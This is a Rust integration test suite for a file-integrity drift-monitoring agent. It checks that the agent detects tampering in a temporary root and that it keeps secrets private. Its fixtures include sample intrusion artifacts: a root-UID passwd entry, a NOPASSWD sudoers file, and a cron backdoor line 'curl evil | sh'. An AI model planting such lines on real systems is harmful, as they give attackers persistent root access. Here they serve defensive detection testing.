//! `driftwatch-agent run` on a temp root: real inotify, real processes, real kill -9.

use std::fs;
use std::time::Duration;

use driftwatch_tests::{Consumer, TestDir, drift_paths, summary};

const WAIT: Duration = Duration::from_secs(20);
const QUIET: Duration = Duration::from_millis(600);

fn ev(event: &str, path: &str) -> (String, String) {
    (event.to_owned(), path.to_owned())
}

#[test]
fn each_edit_produces_exactly_its_transitions_in_order() {
    let t = TestDir::new();
    t.populate();
    let b = t.baseline();
    let agent = t.start_agent(&b, "");
    agent.assert_quiet(QUIET);
    let original = fs::read(t.at("/etc/ssh/sshd_config")).unwrap();

    // An editor's save: temp file in the same directory, renamed over. One change.
    t.write_by_rename("/etc/ssh/sshd_config", "PermitRootLogin yes\n");
    let got = agent.take(1, WAIT);
    assert_eq!(summary(&got), [ev("drifted", "/etc/ssh/sshd_config")]);
    assert_eq!(got[0]["item"]["kind"], "modified");
    assert_eq!(got[0]["item"]["severity"], "security");
    assert!(
        got[0]["item"]["diff"]
            .as_str()
            .unwrap()
            .contains("+PermitRootLogin yes")
    );
    assert!(got[0]["observed_at"].as_str().unwrap().ends_with('Z'));
    agent.assert_quiet(QUIET);
    // Edited again: changed. Restored: resolved.
    t.write_by_rename(
        "/etc/ssh/sshd_config",
        "PermitRootLogin prohibit-password\n",
    );
    assert_eq!(
        summary(&agent.take(1, WAIT)),
        [ev("changed", "/etc/ssh/sshd_config")]
    );
    t.write_by_rename("/etc/ssh/sshd_config", &original);
    assert_eq!(
        summary(&agent.take(1, WAIT)),
        [ev("resolved", "/etc/ssh/sshd_config")]
    );
    agent.assert_quiet(QUIET);

    // chmod, and back.
    t.chmod("/etc/nginx/nginx.conf", 0o600);
    let got = agent.take(1, WAIT);
    assert_eq!(summary(&got), [ev("drifted", "/etc/nginx/nginx.conf")]);
    assert_eq!(got[0]["item"]["changed"], serde_json::json!(["mode"]));
    t.chmod("/etc/nginx/nginx.conf", 0o644);
    assert_eq!(
        summary(&agent.take(1, WAIT)),
        [ev("resolved", "/etc/nginx/nginx.conf")]
    );

    // In-place append, then touch (no new transition).
    let mut f = fs::OpenOptions::new()
        .append(true)
        .open(t.at("/etc/passwd"))
        .unwrap();
    std::io::Write::write_all(&mut f, b"mallory:x:0:0::/root:/bin/bash\n").unwrap();
    drop(f);
    assert_eq!(
        summary(&agent.take(1, WAIT)),
        [ev("drifted", "/etc/passwd")]
    );
    fs::File::options()
        .write(true)
        .open(t.at("/etc/passwd"))
        .unwrap()
        .set_modified(std::time::SystemTime::now())
        .unwrap();
    agent.assert_quiet(QUIET);

    // A new directory with a file, then its removal.
    fs::create_dir(t.at("/etc/sudoers.d")).unwrap();
    t.write(
        "/etc/sudoers.d/90-incident",
        "deploy ALL=(ALL) NOPASSWD: ALL\n",
    );
    let got = agent.take(2, WAIT);
    let mut got_summary = summary(&got);
    got_summary.sort();
    assert_eq!(
        got_summary,
        [
            ev("drifted", "/etc/sudoers.d"),
            ev("drifted", "/etc/sudoers.d/90-incident")
        ]
    );
    // A file created inside the new directory after it appeared is seen too (its watch exists).
    t.write("/etc/sudoers.d/91-more", "x\n");
    assert_eq!(
        summary(&agent.take(1, WAIT)),
        [ev("drifted", "/etc/sudoers.d/91-more")]
    );
    fs::remove_dir_all(t.at("/etc/sudoers.d")).unwrap();
    let mut got_summary = summary(&agent.take(3, WAIT));
    got_summary.sort();
    assert_eq!(
        got_summary,
        [
            ev("resolved", "/etc/sudoers.d"),
            ev("resolved", "/etc/sudoers.d/90-incident"),
            ev("resolved", "/etc/sudoers.d/91-more")
        ]
    );

    // Symlink retargeted, a new setuid bit, a fifo.
    fs::remove_file(t.at("/etc/nginx/current.conf")).unwrap();
    std::os::unix::fs::symlink("/tmp/evil.conf", t.at("/etc/nginx/current.conf")).unwrap();
    let got = agent.take(1, WAIT);
    assert_eq!(summary(&got), [ev("drifted", "/etc/nginx/current.conf")]);
    t.chmod("/usr/bin/tool", 0o4755);
    let got = agent.take(1, WAIT);
    assert_eq!(got[0]["item"]["reason"], "new setuid bit");
    assert!(
        std::process::Command::new("mkfifo")
            .arg(t.at("/etc/app.fifo"))
            .status()
            .unwrap()
            .success()
    );
    let got = agent.take(1, WAIT);
    assert_eq!(summary(&got), [ev("drifted", "/etc/app.fifo")]);
    assert_eq!(got[0]["item"]["actual"]["type"], "fifo");

    // A directory moved out of the tree, and back in.
    fs::rename(t.at("/etc/nginx"), t.path().join("nginx-away")).unwrap();
    let mut got_summary = summary(&agent.take(3, WAIT));
    got_summary.sort();
    // nginx.conf and the dir are removed; current.conf was drifted and is now removed (changed).
    assert_eq!(
        got_summary,
        [
            ev("changed", "/etc/nginx/current.conf"),
            ev("drifted", "/etc/nginx"),
            ev("drifted", "/etc/nginx/nginx.conf")
        ]
    );
    fs::rename(t.path().join("nginx-away"), t.at("/etc/nginx")).unwrap();
    let mut got_summary = summary(&agent.take(3, WAIT));
    got_summary.sort();
    assert_eq!(
        got_summary,
        [
            ev("changed", "/etc/nginx/current.conf"),
            ev("resolved", "/etc/nginx"),
            ev("resolved", "/etc/nginx/nginx.conf")
        ]
    );
    agent.assert_quiet(QUIET);

    // Sequence numbers are strictly increasing from 1, and the status agrees with the events.
    let status = agent.status();
    assert_eq!(status["state"], "watching");
    let paths: Vec<&str> = status["drift"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|i| i["path"].as_str())
        .collect();
    assert_eq!(
        paths,
        [
            "/etc/app.fifo",
            "/etc/nginx/current.conf",
            "/etc/passwd",
            "/usr/bin/tool"
        ]
    );
    let metrics = agent.metrics();
    assert!(
        metrics.contains("driftwatch_agent_events_total{transition=\"drifted\"}"),
        "{metrics}"
    );
}

#[test]
fn changes_made_while_stopped_are_reported_at_start() {
    let t = TestDir::new();
    t.populate();
    let b = t.baseline();
    // Edited before the agent ever ran.
    t.write_by_rename("/etc/nginx/nginx.conf", "worker_processes 64;\n");
    let mut agent = t.start_agent(&b, "");
    let got = agent.take(1, WAIT);
    assert_eq!(summary(&got), [ev("drifted", "/etc/nginx/nginx.conf")]);
    agent.stop();
    // Restarted with nothing new: nothing is re-emitted (the ledger remembers what was said).
    let mut agent = t.start_agent(&b, "");
    agent.assert_quiet(QUIET);
    agent.stop();
    // Restored while stopped, and another file added: both reported at start.
    fs::write(
        t.at("/etc/nginx/nginx.conf"),
        "worker_processes 2;\nevents {}\n",
    )
    .unwrap();
    t.write("/etc/cron.d/backdoor", "* * * * * root curl evil | sh\n");
    let agent = t.start_agent(&b, "");
    let mut got = summary(&agent.take(3, WAIT));
    got.sort();
    assert_eq!(
        got,
        [
            ev("drifted", "/etc/cron.d"),
            ev("drifted", "/etc/cron.d/backdoor"),
            ev("resolved", "/etc/nginx/nginx.conf")
        ]
    );
}

#[test]
fn kill_9_during_a_burst_then_restart_converges_to_the_exact_drift_set() {
    let t = TestDir::new();
    t.populate();
    fs::create_dir_all(t.at("/etc/app")).unwrap();
    for i in 0..200 {
        t.write(&format!("/etc/app/{i:03}.conf"), format!("value = {i}\n"));
    }
    let b = t.baseline();
    let mut agent = t.start_agent(&b, "");
    let mut consumer = Consumer::default();
    let writer = {
        let root = t.root();
        std::thread::spawn(move || {
            for round in 0..3 {
                for i in 0..200 {
                    fs::write(
                        root.join(format!("etc/app/{i:03}.conf")),
                        format!("value = {i} round {round}\n"),
                    )
                    .unwrap();
                }
            }
            for i in 0..50 {
                fs::write(
                    root.join(format!("etc/app/{i:03}.conf")),
                    format!("value = {i}\n"),
                )
                .unwrap();
            }
        })
    };
    // Some events out, then the crash in the middle of the burst.
    let first = agent.take(20, WAIT);
    agent.kill9();
    consumer.apply(&first);
    writer.join().unwrap();
    // Everything it printed before dying, then everything after restart.
    let seen = agent.drain(Duration::from_millis(10));
    consumer.apply(&seen);
    drop(agent);
    let agent = t.start_agent(&b, "");
    let after = agent.drain(Duration::from_secs(2));
    consumer.apply(&after);
    let view = &consumer.view;
    let (_, report) = t.check_json(&b, &[]);
    let expected = drift_paths(&report);
    let got: Vec<String> = view.keys().cloned().collect();
    assert_eq!(got, expected);
    assert_eq!(expected.len(), 150);
    // Every item the consumer holds is identical to what check reports now.
    for d in report["drift"].as_array().unwrap() {
        assert_eq!(view[d["path"].as_str().unwrap()]["actual"], d["actual"]);
    }
}

#[test]
fn watch_limit_degrades_coverage_and_periodic_rescans_cover_the_rest() {
    let t = TestDir::new();
    t.populate();
    for i in 0..12 {
        t.write(&format!("/etc/deep/d{i:02}/file.conf"), "a = 1\n");
    }
    let b = t.baseline();
    let agent = t.start_agent(
        &b,
        "[watch]\ncoalesce = \"50ms\"\nmax_watches = 4\n[rescan]\ndegraded_interval = \"1s\"\n",
    );
    let status = agent.status();
    assert_eq!(status["state"], "degraded", "{status:#}");
    assert_eq!(status["coverage"]["watched_dirs"], 4);
    assert!(
        status["coverage"]["unwatched_dirs"].as_u64().unwrap() >= 10,
        "{status:#}"
    );
    let metrics = agent.metrics();
    assert!(
        metrics.contains("driftwatch_agent_unwatched_directories "),
        "{metrics}"
    );
    // A change in a directory that has no watch is found by the periodic degraded rescan.
    t.write_by_rename("/etc/deep/d11/file.conf", "a = 2\n");
    let got = agent.take(1, Duration::from_secs(15));
    assert_eq!(summary(&got), [ev("drifted", "/etc/deep/d11/file.conf")]);
}

#[test]
fn status_and_validate_commands() {
    let t = TestDir::new();
    t.populate();
    let b = t.baseline();
    let agent = t.start_agent(&b, "");
    t.chmod("/etc/motd", 0o600);
    agent.take(1, WAIT);
    let human = t
        .cmd("driftwatch-agent")
        .arg("status")
        .arg("--state-dir")
        .arg(&agent.state_dir)
        .ok();
    assert!(human.contains("state      watching"), "{human}");
    assert!(human.contains("/etc/motd"), "{human}");
    let json = t
        .cmd("driftwatch-agent")
        .args(["status", "--json", "--state-dir"])
        .arg(&agent.state_dir)
        .ok();
    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(v["drift_count"], 1);
    t.cmd("driftwatch-agent")
        .args(["validate", "--config"])
        .arg(t.path().join("agent.toml"))
        .ok();
    fs::write(
        t.path().join("bad.toml"),
        "root = \"/nope\"\nlisten = \"x\"\n[rescan]\ninterval = \"often\"\n",
    )
    .unwrap();
    let err = t
        .cmd("driftwatch-agent")
        .args(["validate", "--config"])
        .arg(t.path().join("bad.toml"))
        .stderr_with_code(1);
    for key in ["baseline:", "root:", "listen:", "rescan.interval:"] {
        assert!(err.contains(key), "missing {key}: {err}");
    }
}

#[test]
fn sighup_with_a_broken_config_keeps_running_and_a_good_one_reloads() {
    let t = TestDir::new();
    t.populate();
    let b = t.baseline();
    let mut agent = t.start_agent(&b, "");
    let config = t.path().join("agent.toml");
    let good = fs::read_to_string(&config).unwrap();
    fs::write(&config, "this is not toml").unwrap();
    agent.hup();
    std::thread::sleep(Duration::from_millis(300));
    assert!(agent.alive());
    // A valid config naming a corrupt baseline is refused as well: the agent keeps running.
    let corrupt = t.path().join("corrupt.dwb");
    fs::write(&corrupt, &fs::read(&b).unwrap()[..100]).unwrap();
    fs::write(&config, good.replace("baseline.dwb", "corrupt.dwb")).unwrap();
    agent.hup();
    std::thread::sleep(Duration::from_millis(300));
    assert!(agent.alive(), "log:\n{}", agent.log_text());
    t.chmod("/etc/motd", 0o600);
    assert_eq!(summary(&agent.take(1, WAIT)), [ev("drifted", "/etc/motd")]);
    // A new baseline that includes the change: after reload, the drift resolves.
    let b2 = t.path().join("baseline2.dwb");
    t.cmd("driftwatch-agent")
        .args(["baseline", "build", "--root"])
        .arg(t.root())
        .arg("--out")
        .arg(&b2)
        .ok();
    fs::write(&config, good.replace("baseline.dwb", "baseline2.dwb")).unwrap();
    agent.hup();
    assert_eq!(summary(&agent.take(1, WAIT)), [ev("resolved", "/etc/motd")]);
    agent.stop();
}

#[test]
fn package_database_changes_become_package_events() {
    let t = TestDir::new();
    t.populate();
    let status = "Package: openssl\nStatus: install ok installed\nArchitecture: amd64\nVersion: 3.0.11-1\n\n\
                  Package: curl\nStatus: install ok installed\nArchitecture: amd64\nVersion: 7.88.1-10\n";
    t.write("/var/lib/dpkg/status", status);
    let b = t.baseline();
    let agent = t.start_agent(&b, "");
    agent.assert_quiet(QUIET);
    // dpkg writes status-new and renames it over status.
    let upgraded = status.replace("3.0.11-1", "3.0.13-1")
        + "\nPackage: netcat\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1.10\n";
    t.write("/var/lib/dpkg/status-new", &upgraded);
    fs::rename(
        t.at("/var/lib/dpkg/status-new"),
        t.at("/var/lib/dpkg/status"),
    )
    .unwrap();
    let got = agent.take(2, WAIT);
    let mut kinds: Vec<(String, String, String)> = got
        .iter()
        .map(|e| {
            let item = &e["item"];
            (
                e["event"].as_str().unwrap().to_owned(),
                item["name"].as_str().unwrap().to_owned(),
                item["kind"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    kinds.sort();
    assert_eq!(
        kinds,
        [
            (
                "drifted".to_owned(),
                "netcat".to_owned(),
                "installed".to_owned()
            ),
            (
                "drifted".to_owned(),
                "openssl".to_owned(),
                "version_changed".to_owned()
            )
        ]
    );
    // Downgraded back and netcat removed: both resolve.
    t.write("/var/lib/dpkg/status-new", status);
    fs::rename(
        t.at("/var/lib/dpkg/status-new"),
        t.at("/var/lib/dpkg/status"),
    )
    .unwrap();
    let mut got = summary(&agent.take(2, WAIT));
    got.sort();
    assert_eq!(got, [ev("resolved", "netcat"), ev("resolved", "openssl")]);
    agent.assert_quiet(QUIET);
}

#[test]
fn removing_a_recorded_tree_itself_is_seen() {
    let t = TestDir::new();
    t.populate();
    t.write(
        "/root/.ssh/authorized_keys",
        "ssh-ed25519 AAAA ops@example\n",
    );
    let b = t.baseline();
    let agent = t.start_agent(&b, "");
    agent.assert_quiet(QUIET);
    // /root/.ssh is a tree of its own: /root has no watch, only the tree's own directory does.
    fs::remove_dir_all(t.at("/root/.ssh")).unwrap();
    let got = agent.take(2, WAIT);
    let mut got_summary = summary(&got);
    got_summary.sort();
    assert_eq!(
        got_summary,
        [
            ev("drifted", "/root/.ssh"),
            ev("drifted", "/root/.ssh/authorized_keys")
        ]
    );
    assert!(
        got.iter()
            .all(|e| e["item"]["kind"] == "removed" && e["item"]["severity"] == "security")
    );
}

/// Issue 12, part 6: the drift (and its diffs, which quote root-only files) is served on a unix
/// socket only the agent's user and root can open; the TCP listener serves metrics, which carry
/// no path and no content; everything the agent keeps is private.
#[test]
fn status_is_on_a_private_socket_and_tcp_serves_only_metrics_without_content() {
    use std::os::unix::fs::{FileTypeExt as _, MetadataExt as _, PermissionsExt as _};
    let t = TestDir::new();
    t.populate();
    let b = t.baseline();
    let mut agent = t.start_agent(&b, "");
    // A secret in a root-only file, captured as a diff.
    t.chmod("/etc/ssh/sshd_config", 0o600);
    t.write_by_rename(
        "/etc/ssh/sshd_config",
        "PermitRootLogin no\nPasswordAuthentication no\n# secret-in-sshd 7f3a\n",
    );
    // The chmod and the edit may arrive as one event or two: wait for the diff.
    let deadline = std::time::Instant::now() + WAIT;
    loop {
        let status = agent.status();
        if status.to_string().contains("secret-in-sshd 7f3a") {
            break;
        }
        assert!(std::time::Instant::now() < deadline, "{status:#}");
        std::thread::sleep(Duration::from_millis(50));
    }

    // The socket: 0600, owned by the agent's user (root here), and it serves the status.
    let socket = agent.status_socket();
    let meta = fs::symlink_metadata(&socket).expect("the status socket exists");
    assert!(meta.file_type().is_socket(), "{meta:?}");
    assert_eq!(meta.permissions().mode() & 0o7777, 0o600);
    assert_eq!(meta.uid(), fs::metadata("/proc/self").unwrap().uid());
    let cli = t
        .cmd("driftwatch-agent")
        .args(["status", "--json", "--status-socket"])
        .arg(&socket)
        .ok();
    assert!(cli.contains("secret-in-sshd"), "{cli}");

    // TCP: metrics and health, no status, nothing about a path or a file's content.
    let addr = agent.metrics_addr();
    let err = driftwatch_agent::telemetry::http_get(addr, "/status").unwrap_err();
    assert!(err.to_string().contains("404"), "{err}");
    let metrics = agent.metrics();
    assert!(
        metrics.contains("driftwatch_agent_drift_items"),
        "{metrics}"
    );
    for leak in ["/etc", "sshd", "secret", "PermitRootLogin"] {
        assert!(!metrics.contains(leak), "{leak} in /metrics:\n{metrics}");
    }
    assert_eq!(
        driftwatch_agent::telemetry::http_get(addr, "/healthz").unwrap(),
        "ok\n"
    );

    // Another local user cannot open the socket, even when the directories let them reach it.
    if driftwatch_tests::is_root() {
        fs::set_permissions(&agent.state_dir, fs::Permissions::from_mode(0o755)).unwrap();
        let denied = driftwatch_tests::Cmd::system("curl")
            .args(["-sS", "--max-time", "5", "--unix-socket"])
            .arg(&socket)
            .arg("http://localhost/status")
            .as_nobody()
            .output();
        assert!(
            !denied.status.success(),
            "{}",
            driftwatch_tests::describe(&denied)
        );
        let out = String::from_utf8_lossy(&denied.stdout);
        assert!(!out.contains("secret"), "{out}");
        let err = t
            .cmd("driftwatch-agent")
            .args(["status", "--state-dir"])
            .arg(&agent.state_dir)
            .as_nobody()
            .stderr_with_code(1);
        assert!(
            err.contains("Permission denied") && err.contains("sudo"),
            "{err}"
        );
        fs::set_permissions(&agent.state_dir, fs::Permissions::from_mode(0o700)).unwrap();
    }

    // Every file the agent keeps is 0600, every directory 0700 (the ledger is saved on stop).
    agent.stop();
    assert!(!socket.exists(), "the socket is removed on stop");
    let mode = |p: &std::path::Path| fs::symlink_metadata(p).unwrap().permissions().mode() & 0o7777;
    assert_eq!(mode(&agent.state_dir), 0o700);
    let mut files = vec![
        agent.state_dir.join("ledger.pb"),
        agent.state_dir.join("stream-id"),
        agent.state_dir.join("status.addr"),
    ];
    assert_eq!(mode(&agent.state_dir.join("spool")), 0o700);
    files.extend(
        fs::read_dir(agent.state_dir.join("spool"))
            .unwrap()
            .map(|e| e.unwrap().path()),
    );
    assert!(files.len() > 3, "{files:?}");
    for file in &files {
        assert_eq!(mode(file), 0o600, "{}", file.display());
    }
}

/// A stale socket (a crash) is replaced at start; a symlink there is replaced, never followed;
/// a regular file is refused with a clear error. Files an older agent left readable are made
/// private.
#[test]
fn a_stale_socket_or_symlink_is_replaced_and_old_state_files_are_tightened() {
    use std::os::unix::fs::{FileTypeExt as _, PermissionsExt as _};
    let t = TestDir::new();
    t.populate();
    let b = t.baseline();
    let state = t.path().join("state");
    fs::create_dir_all(state.join("spool")).unwrap();
    // What a kill -9 leaves: a bound socket nobody listens on.
    drop(std::os::unix::net::UnixListener::bind(state.join("agent.sock")).unwrap());
    fs::write(state.join("stream-id"), "0123456789abcdef\n").unwrap();
    fs::set_permissions(state.join("stream-id"), fs::Permissions::from_mode(0o644)).unwrap();
    fs::set_permissions(state.join("spool"), fs::Permissions::from_mode(0o755)).unwrap();
    let mut agent = t.start_agent(&b, "");
    let mode = |p: &std::path::Path| fs::symlink_metadata(p).unwrap().permissions().mode() & 0o7777;
    assert_eq!(mode(&state.join("stream-id")), 0o600);
    assert_eq!(mode(&state.join("spool")), 0o700);
    let log = agent.log_text();
    assert!(
        log.contains("made them private") && log.contains("stream-id"),
        "{log}"
    );
    agent.stop();

    // A symlink at the socket's path: the link is replaced; its target is left alone.
    let target = t.path().join("target-file");
    fs::write(&target, "keep me\n").unwrap();
    std::os::unix::fs::symlink(&target, state.join("agent.sock")).unwrap();
    let mut agent = t.start_agent(&b, "");
    assert!(
        fs::symlink_metadata(state.join("agent.sock"))
            .unwrap()
            .file_type()
            .is_socket()
    );
    assert_eq!(fs::read_to_string(&target).unwrap(), "keep me\n");
    agent.stop();

    // A regular file there is not the agent's to delete.
    fs::write(state.join("agent.sock"), "not a socket\n").unwrap();
    let err = t
        .cmd("driftwatch-agent")
        .args(["run", "--config"])
        .arg(t.path().join("agent.toml"))
        .stderr_with_code(1);
    assert!(
        err.contains("status socket") && err.contains("is not a socket"),
        "{err}"
    );
    assert_eq!(
        fs::read_to_string(state.join("agent.sock")).unwrap(),
        "not a socket\n"
    );
}
